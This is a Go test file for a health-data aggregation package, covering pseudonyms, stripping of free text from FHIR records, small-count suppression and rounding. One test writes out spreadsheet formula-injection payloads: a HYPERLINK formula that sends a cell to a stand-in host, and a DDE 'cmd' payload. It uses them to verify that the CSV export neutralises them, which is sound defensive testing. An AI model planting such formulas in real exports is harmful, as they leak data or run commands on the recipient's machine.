package population

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"selda/access/record"
	"selda/fhir"
	"selda/policy"
	"selda/store"
)

// Pseudonyms of two projects, and of two regions, can't be joined; one person's stay
// the same within a project.
func TestG3PseudonymsAreOfOneProject(t *testing.T) {
	secret := []byte("a secret of thirty-two bytes....")
	a, b := NewPseudonyms(secret, "a"), NewPseudonyms(secret, "b")
	if a.Of("c1") != a.Of("c1") || a.Of("c1") == a.Of("c2") || a.Of("c1") == b.Of("c1") || a.Of("c1") == NewPseudonyms([]byte("another"), "a").Of("c1") {
		t.Error("pseudonyms of two projects are the same, or of one differ")
	}
	if strings.Contains(a.Of("c1"), "c1") || len(a.Of("c1")) != 24 {
		t.Error(a.Of("c1"))
	}
}

// Nothing that somebody wrote in words is in a row, wherever it stands.
func TestG3ARowHasNoWords(t *testing.T) {
	for _, body := range []string{
		`{"resourceType":"Observation","id":"SECRET","status":"final","code":{"coding":[{"system":"http://snomed.info/sct","code":"271649006","display":"SECRET"}],"text":"SECRET"},"subject":{"reference":"Patient/SECRET","display":"SECRET"},"valueString":"SECRET","note":[{"text":"SECRET"}],"identifier":[{"value":"SECRET"}],"text":{"div":"SECRET"}}`,
		`{"resourceType":"Observation","status":"final","code":{"coding":[{"system":"urn:x","code":"SECRET words of somebody"}]},"valueQuantity":{"value":7,"unit":"SECRET","code":"SECRET unit"}}`,
		`{"resourceType":"Observation","status":"final","code":{"coding":[{"code":"1"}]},"valueCodeableConcept":{"text":"SECRET","coding":[{"code":"SECRET words"}]}}`,
		`{"resourceType":"Condition","code":{"text":"SECRET"}}`,
		`{"resourceType":"Encounter","status":"SECRET status","class":{"code":"IMP","display":"SECRET"},"reasonCode":[{"text":"SECRET"}]}`,
	} {
		r, err := fhir.ParseTrusted([]byte(body))
		if err != nil {
			t.Fatal(err)
		}
		i := &record.Item{Version: &store.Version{Columns: policy.Columns{Type: r.Type, ID: "SECRET", Source: "RJZ:SECRET", DataSet: policy.Observations}, When: time.Date(2026, 11, 5, 9, 30, 0, 0, time.UTC)}, Res: r}
		row, ok := rowOf(i)
		if words := strings.ToLower(strings.Join([]string{row.Person, row.Kind, row.Type, row.Code, row.Month, row.Status, row.Value, row.Unit, string(row.Source)}, "|")); strings.Contains(words, "secret") {
			t.Errorf("%s: %s", body, words)
		}
		if ok && row.Month != "2026-11" {
			t.Errorf("%+v", row)
		}
	}
}

// What a source wrote is never a formula of whoever opens the counts.
func TestHostileCountsAreNoFormulas(t *testing.T) {
	counts := Counts{By: []Dimension{ByCode}}
	for _, code := range []string{`=HYPERLINK("http://x/?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "22298006", "http://snomed.info/sct|22298006", ""} {
		counts.Cells = append(counts.Cells, Cell{Of: []string{code}, People: 10})
	}
	var out strings.Builder
	if err := counts.CSV(&out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		was := counts.Cells[i].Of[0]
		if row[0] != "" && strings.ContainsAny(row[0][:1], "=+-@\t\r\n") {
			t.Errorf("%q is written as %q", was, row[0])
		}
		if last := strings.TrimSpace(strings.TrimPrefix(row[0], "'")); last != strings.TrimSpace(was) {
			t.Errorf("%q is lost: %q", was, row[0])
		}
	}
}

// Counts of few people are not told, and two of them can't be taken from each
// other to tell of few.
func TestG3SmallNumbers(t *testing.T) {
	c := newCounts([]Dimension{BySex})
	for i := range 30 {
		sex := "female"
		if i < 9 {
			sex = "male"
		}
		c.add(Row{Sex: sex}, []Row{{Code: "a"}, {Code: "b"}})
	}
	out, suppressed := c.counts()
	if suppressed != 1 || len(out.Cells) != 2 || out.Cells[0].Says() != "20" || out.Cells[1].Says() != "*" {
		t.Errorf("%+v, %d suppressed", out.Cells, suppressed)
	}
	for _, list := range []string{"", "name", "kind,code,sex,age"} {
		if _, err := ParseDimensions(list); err == nil {
			t.Errorf("counted by %q", list)
		}
	}
	for age, want := range map[int]string{0: "0-4", 4: "0-4", 65: "65-69", 89: "85-89", 90: "90+", 101: "90+"} {
		now := time.Date(2026, 11, 5, 0, 0, 0, 0, time.UTC)
		if got := ageBand(now.AddDate(-age, 0, -1), now); got != want {
			t.Errorf("%d is of %s", age, got)
		}
	}
}

// Few are not told of by number, and no two numbers are to be taken from each other.
func TestToldIsRoundedAndNeverFew(t *testing.T) {
	for n, want := range map[int]string{0: "0", 1: "*", 9: "*", 10: "10", 12: "10", 13: "15", 997: "995", 998: "1000"} {
		if got := Told(n); got != want {
			t.Errorf("%d is told as %s", n, got)
		}
	}
}
